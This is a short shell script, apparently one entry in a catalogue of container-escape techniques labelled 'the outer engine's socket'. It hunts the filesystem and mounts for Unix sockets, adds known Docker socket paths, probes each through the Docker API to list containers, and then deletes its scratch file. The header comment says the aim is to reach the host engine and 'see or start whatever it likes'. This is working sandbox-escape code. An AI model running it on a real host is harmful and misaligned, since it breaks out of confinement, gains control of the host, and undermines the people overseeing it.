# Category: the outer engine's socket
# Escape: talks to the lab engine, which obeys, and sees or starts whatever it likes.
# Sign: secret
find / -xdev -type s 2>/dev/null > "/root/$TOKEN"
cut -d' ' -f2 /proc/self/mounts | while read -r place; do find "$place" -xdev -maxdepth 2 -type s 2>/dev/null; done >> "/root/$TOKEN"
printf '%s\n' /run/patchbay/docker.sock /proc/1/root/run/patchbay/docker.sock /var/run/docker.sock >> "/root/$TOKEN"
sort -u "/root/$TOKEN" | while read -r socket; do curl -s -m 2 --unix-socket "$socket" http://docker/containers/json; done
rm "/root/$TOKEN"
